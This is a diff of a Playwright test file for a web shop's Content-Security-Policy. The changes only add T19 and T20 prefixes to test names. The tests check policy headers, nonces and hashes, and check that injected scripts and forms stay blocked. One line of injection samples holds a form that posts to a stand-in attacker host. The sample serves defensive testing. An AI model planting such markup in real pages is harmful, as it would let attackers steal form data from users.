@@ -50,7 +50,7 @@ async function casesOf(shop: string): Promise<Case[]> {
   ]
 }
 
-test('csp_evaluator and Mozilla Observatory find nothing in any kind of answer', async () => {
+test('T19 csp_evaluator and Mozilla Observatory find nothing in any kind of answer', async () => {
   const cookies: string[] = []
   for (const shop of shops) {
     for (const { path, status, type } of await casesOf(shop)) {
@@ -73,7 +73,7 @@ test('csp_evaluator and Mozilla Observatory find nothing in any kind of answer',
   expect(cookies.filter((line) => line.startsWith('__Host-')).length).toBeGreaterThan(1)
 })
 
-test('documents are among them', async () => {
+test('T19 documents are among them', async () => {
   const [shop = ''] = shops
   const { url } = await findProductPage(
     () => true,
@@ -88,7 +88,7 @@ test('documents are among them', async () => {
   expect(remarksOn(response.headers.get('Content-Security-Policy') ?? '')).toEqual([])
 })
 
-test('both find what is wrong with an answer that was tampered with', async () => {
+test('T19 both find what is wrong with an answer that was tampered with', async () => {
   const [shop = ''] = shops
   const { url } = await bigCategory()
   const response = await fetch(shop + url)
@@ -129,7 +129,7 @@ test('both find what is wrong with an answer that was tampered with', async () =
   expect(remarksOn(policy.replace("base-uri 'none'", ''))).not.toEqual([])
 })
 
-test('what a page runs its policy knows: rendered ones by a nonce, stored ones by hashes, also after a 304', async ({
+test('T20 what a page runs its policy knows: rendered ones by a nonce, stored ones by hashes, also after a 304', async ({
   page,
   request,
 }) => {
@@ -197,7 +197,7 @@ const injections = [
   `<form id="stolen" action="${evil}/form"></form>`,
 ].join('\n')
 
-test('scripts that somebody got into a page do not run, and nothing leaves it', async ({ page }) => {
+test('T20 scripts that somebody got into a page do not run, and nothing leaves it', async ({ page }) => {
   const { url } = await bigCategory()
   const asked: string[] = []
   await page.route(`${evil}/**`, (route) => {
